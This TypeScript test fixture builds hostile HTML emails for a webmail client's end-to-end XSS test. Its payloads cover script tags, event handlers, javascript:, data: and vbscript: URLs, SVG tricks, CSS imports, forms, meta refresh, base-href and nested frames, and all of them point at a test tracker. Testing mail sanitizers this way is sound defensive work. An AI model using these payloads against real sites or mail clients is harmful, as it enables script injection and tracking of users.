// The hostile HTML mails xss.e2e.test.ts opens in chromium: one per family of attack the issue
// names. Every script payload would leave a trace the test looks for: parent.__xss set on the
// webmail's window (the frame is same-origin, so a script that ran could reach it), a dialog, a
// navigation, or a hit on the tracker. Every remote URL points at the tracker (`tracker`), so a
// fetch that slipped through shows up in its log.

export interface HostileMail {
  subject: string;
  /** Text the body shows once it has loaded. */
  marker: string;
  raw: string;
  /** Remote images the reading pane must report blocked. */
  remoteImages: number;
  /** Texts of elements to click (links, buttons) after opening. */
  click?: string[];
  /** Has an inline cid: image that must show. */
  cidImage?: boolean;
  /** Has a normal http link to the tracker's /link. */
  link?: boolean;
  /** Long enough to test the frame's sizing. */
  tall?: boolean;
}

const RUN = 'parent.__xss=(parent.__xss||0)+1;top.__xss=1;alert(1)';
const GIF = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

function htmlMail(subject: string, from: string, html: string): string {
  return [
    `From: Newsletter <${from}>`, 'To: alice@example.cn', `Subject: ${subject}`, 'Date: Fri, 03 Apr 2026 10:00:00 +0800',
    `Message-ID: <${subject.replace(/\W+/g, '-')}@tracker.test>`, 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64', '', Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\r\n'), '',
  ].join('\r\n');
}

export function hostileMails(tracker: string, from: string): HostileMail[] {
  const list: Array<Omit<HostileMail, 'raw' | 'marker'> & { html: string }> = [
    {
      subject: 'XSS 1 script', remoteImages: 0,
      html: `<script>${RUN}</script><script src="${tracker}/script.js"></script><p>BODY</p>`
        + `<scr<script>ipt>${RUN}</script><noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
    },
    {
      subject: 'XSS 2 event handlers', remoteImages: 0, click: ['hover me', 'toggle'],
      html: `<body onload="${RUN}"><p>BODY</p><img src="data:image/gif;base64,!!" onerror="${RUN}"><div onmouseover="${RUN}">hover me</div>`
        + `<details open ontoggle="${RUN}"><summary>toggle</summary>x</details><svg onload="${RUN}"></svg>`
        + `<input autofocus onfocus="${RUN}"><marquee onstart="${RUN}">m</marquee></body>`,
    },
    {
      subject: 'XSS 3 javascript URLs', remoteImages: 0, click: ['js link', 'entity link', 'data link', 'vb link'],
      html: `<p>BODY</p><a href="javascript:${RUN}">js link</a> <a href="jav&#x09;ascript&colon;${RUN}">entity link</a> `
        + `<a href="data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}">data link</a> `
        + `<a href="vbscript:msgbox(1)">vb link</a><img src="javascript:${RUN}"><iframe src="javascript:${RUN}"></iframe>`,
    },
    {
      subject: 'XSS 4 SVG', remoteImages: 1,
      html: `<p>BODY</p><svg width="100" height="100"><script>${RUN}</script><image href="${tracker}/svg-image.png" width="10" height="10"/>`
        + `<use href="${tracker}/use.svg#x"/><a xlink:href="javascript:${RUN}"><text x="10" y="20">svg link</text></a>`
        + `<animate attributeName="href" to="javascript:${RUN}"/><set attributeName="onmouseover" to="${RUN}"/>`
        + `<foreignObject><iframe src="${tracker}/foreign"></iframe></foreignObject></svg>`
        + `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`).toString('base64')}">`,
    },
    {
      subject: 'XSS 5 CSS', remoteImages: 3,
      html: `<html><head><style>@import url(${tracker}/import.css); @import "${tracker}/import2.css";`
        + `body{background:url('${tracker}/css-bg.png')} .x{width:expression(alert(1));behavior:url(${tracker}/x.htc)}`
        + `@font-face{font-family:evil;src:url(${tracker}/font.woff)} p{font-family:evil}`
        + `.e{background:u\\72 l(${tracker}/escaped.png)} .s{background-image:image-set("${tracker}/set.png" 1x)}</style>`
        + `<link rel="stylesheet" href="${tracker}/link.css"><link rel="prefetch" href="${tracker}/prefetch"></head>`
        + `<body><p class="x e s" style="background-image:url(&quot;${tracker}/inline-bg.png&quot;)">BODY</p></body></html>`,
    },
    {
      subject: 'XSS 6 forms', remoteImages: 0, click: ['Send', 'Go'],
      html: `<p>BODY</p><form action="${tracker}/form" method="post"><input name="password" value="secret"><button>Send</button></form>`
        + `<form><button formaction="${tracker}/formaction">Go</button><input type="image" src="${tracker}/input.png"></form>`
        + `<isindex action="${tracker}/isindex">`,
    },
    {
      subject: 'XSS 7 meta refresh', remoteImages: 0,
      html: `<html><head><meta http-equiv="refresh" content="0;url=${tracker}/refresh"></head><body><p>BODY</p>`
        + `<meta http-equiv="refresh" content="1;url=javascript:${RUN}"><meta http-equiv="set-cookie" content="a=b"></body></html>`,
    },
    {
      subject: 'XSS 8 base', remoteImages: 0, click: ['relative link'],
      html: `<html><head><base href="${tracker}/base/"></head><body><p>BODY</p><img src="rel.png"><a href="rel">relative link</a>`
        + `<script src="rel.js"></script></body></html>`,
    },
    {
      subject: 'XSS 9 nested frames', remoteImages: 0,
      html: `<p>BODY</p><iframe src="${tracker}/iframe"></iframe><iframe srcdoc="<script>parent.parent.__xss=1</script>"></iframe>`
        + `<frameset><frame src="${tracker}/frame"></frameset><object data="${tracker}/object"></object><embed src="${tracker}/embed">`
        + `<portal src="${tracker}/portal"></portal><video poster="${tracker}/poster.png" src="${tracker}/v.mp4"></video>`
        + `<audio src="${tracker}/a.mp3" autoplay></audio><img srcset="${tracker}/srcset.png 1x"><table background="${tracker}/table.png"><tr><td>t</td></tr></table>`,
    },
    {
      subject: 'Tracked newsletter', remoteImages: 1, cidImage: true, link: true,
      html: '', // multipart below
    },
    {
      subject: 'Tall newsletter', remoteImages: 0, tall: true,
      html: `<p>BODY</p>${'<p>Line of a long newsletter.</p>'.repeat(80)}<p>The end.</p>`,
    },
  ];
  return list.map(({ html, ...m }) => {
    const marker = `${m.subject} BODY`;
    if (m.cidImage) {
      const body = `<p>${marker}</p><p><img src="${tracker}/pixel.gif" width="1" height="1"><img src="cid:logo@tracker.test" alt="inline logo">`
        + ` <a href="${tracker}/link">a normal link</a></p>`;
      const raw = [
        `From: Newsletter <${from}>`, 'To: alice@example.cn', `Subject: ${m.subject}`, 'Date: Fri, 03 Apr 2026 10:00:00 +0800',
        'Message-ID: <tracked@tracker.test>', 'MIME-Version: 1.0', 'Content-Type: multipart/related; boundary="rel"', '',
        '--rel', 'Content-Type: text/html; charset=utf-8', '', body,
        '--rel', 'Content-Type: image/gif', 'Content-Transfer-Encoding: base64', 'Content-ID: <logo@tracker.test>',
        'Content-Disposition: inline; filename="logo.gif"', '', GIF, '--rel--', '',
      ].join('\r\n');
      return { ...m, marker, raw };
    }
    return { ...m, marker, raw: htmlMail(m.subject, from, html.replace('<p>BODY</p>', `<p>${marker}</p>`).replace('>BODY<', `>${marker}<`)) };
  });
}
